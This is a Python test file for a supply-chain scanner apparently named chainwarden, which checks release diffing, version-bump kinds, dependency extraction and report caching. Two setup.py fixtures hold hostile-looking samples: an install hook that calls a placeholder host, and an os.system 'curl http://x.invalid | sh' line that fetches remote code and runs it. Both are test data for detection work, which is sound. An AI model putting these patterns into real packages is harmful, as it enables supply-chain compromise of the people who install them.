"""analyze.code.release: a release's archives merged, and what a new release adds over an old one. Trees are
written here and read by the analyzers; nothing is run."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

from chainwarden.analyze.code.release import (
    ArtifactReport,
    bump_kind,
    compare,
    declared_dependencies,
    normal_path,
)
from chainwarden.model import Ecosystem, PackageId
from chainwarden.pipeline.deep import inspect_archive


def sdist(tmp: Path, name: str, version: str, files: dict[str, str]) -> Path:
    path = tmp / f"{name}-{version}.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for rel, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{name}-{version}/{rel}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def release(tmp: Path, version: str, files: dict[str, str]) -> ArtifactReport:
    pkg = PackageId(Ecosystem.PYPI, "demo", version)
    return inspect_archive(sdist(tmp, "demo", version, files), pkg)


PLAIN = {"setup.py": "from setuptools import setup\nsetup(name='demo')\n", "demo/__init__.py": "X = 1\n",
         "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: idna>=3\n"}


def diff(tmp: Path, old_files: dict[str, str], new_files: dict[str, str], old: str = "1.0.0", new: str = "1.0.1"):  # type: ignore[no-untyped-def]
    a, b = release(tmp, old, old_files), release(tmp, new, new_files)
    return compare(a.inspection, {"sdist": a.files}, a.dependencies, b.inspection, {"sdist": b.files}, b.dependencies)


def test_an_unchanged_release_has_no_finding(tmp_path: Path) -> None:
    d = diff(tmp_path, PLAIN, PLAIN)
    assert not d.changed and d.finding is None


def test_added_files_and_dependencies_are_listed_without_alarm(tmp_path: Path) -> None:
    new = {**PLAIN, "demo/extra.py": "Y = 2\n",
           "PKG-INFO": PLAIN["PKG-INFO"] + "Requires-Dist: attrs\n"}
    d = diff(tmp_path, PLAIN, new)
    assert d.added_files == ["demo/extra.py"] and d.added_dependencies == ["attrs"]
    assert d.finding is None


def test_a_patch_release_that_adds_an_install_hook_with_network_is_the_takeover_signature(tmp_path: Path) -> None:
    hook = ("import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
            "class I(install):\n    def run(self):\n        urllib.request.urlopen('http://x.invalid/p')\n"
            "setup(name='demo', cmdclass={'install': I})\n")
    d = diff(tmp_path, PLAIN, {**PLAIN, "setup.py": hook})
    assert "install-hook" in d.added_capabilities and d.added_install_hooks
    assert d.finding is not None and d.finding.rule == "changed-behaviour"
    assert d.finding.severity.value in ("high", "critical") and "patch release" in d.finding.message


def test_a_major_release_that_adds_network_access_is_lower(tmp_path: Path) -> None:
    net = {**PLAIN, "demo/client.py": "import requests\n\ndef get(u):\n    return requests.get(u)\n"}
    d = diff(tmp_path, PLAIN, net, "1.0.0", "2.0.0")
    assert d.added_capabilities.get("network") and d.bump == "major"
    assert d.finding is not None and d.finding.severity.value == "medium"


def test_paths_line_up_across_versions() -> None:
    p = PackageId(Ecosystem.PYPI, "demo", "1.2.2")
    assert normal_path("demo-1.2.2.tar.gz/demo-1.2.2/setup.py", p) == "setup.py"
    assert normal_path("demo-1.2.2-py3-none-any.whl/demo-1.2.2.dist-info/METADATA", p) == "demo.dist-info/METADATA"
    assert normal_path("x-1.0.0.tgz/package/index.js", PackageId(Ecosystem.NPM, "x", "1.0.0")) == "index.js"


def test_bump_kinds() -> None:
    assert [bump_kind("1.2.1", "1.2.2"), bump_kind("1.2", "1.3"), bump_kind("1.9", "2.0"), bump_kind("x", "1")] == \
        ["patch", "minor", "major", "other"]


def test_declared_dependencies_read_metadata_and_package_json(tmp_path: Path) -> None:
    (tmp_path / "demo-1.0.dist-info").mkdir()
    (tmp_path / "demo-1.0.dist-info" / "METADATA").write_text("Name: demo\nRequires-Dist: idna (>=3)\nRequires-Dist: a\n")
    assert declared_dependencies(tmp_path) == ["a", "idna (>=3)"]
    npm = tmp_path / "npm" / "package"
    npm.mkdir(parents=True)
    (npm / "package.json").write_text('{"dependencies": {"left-pad": "^1.3.0"}}')
    assert declared_dependencies(tmp_path / "npm") == ["left-pad ^1.3.0"]


def test_a_report_survives_the_cache_round_trip(tmp_path: Path) -> None:
    hook = "import os\nos.system('curl http://x.invalid | sh')\n"
    r = release(tmp_path, "1.0.0", {**PLAIN, "setup.py": hook})
    back = ArtifactReport.from_dict(r.to_dict(), r.inspection.package)
    assert back.inspection.verdict == r.inspection.verdict
    assert [(f.rule, str(f.location)) for f in back.inspection.findings] == \
        [(f.rule, str(f.location)) for f in r.inspection.findings]
    assert back.files == r.files and back.dependencies == r.dependencies


def test_what_could_not_be_read_survives_the_cache_round_trip(tmp_path: Path) -> None:
    """A cached report of an archive not read completely says so on the next scan; a report cached before
    completeness existed is not reused (the cache read fails and the archive is read again)."""
    path = sdist(tmp_path, "demo", "1.0.0", PLAIN)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    r = inspect_archive(path, PackageId(Ecosystem.PYPI, "demo", "1.0.0"))
    assert r.inspection.verdict == "not-checked" and r.inspection.not_checked
    assert all(n.startswith("demo-1.0.0.tar.gz/") for n in r.inspection.not_checked)
    back = ArtifactReport.from_dict(r.to_dict(), r.inspection.package)
    assert (back.inspection.verdict, back.inspection.not_checked) == ("not-checked", r.inspection.not_checked)
    old = r.to_dict()
    del old["not_checked"]
    try:
        ArtifactReport.from_dict(old, r.inspection.package)
    except KeyError:
        pass
    else:
        raise AssertionError("a report without not_checked was accepted")
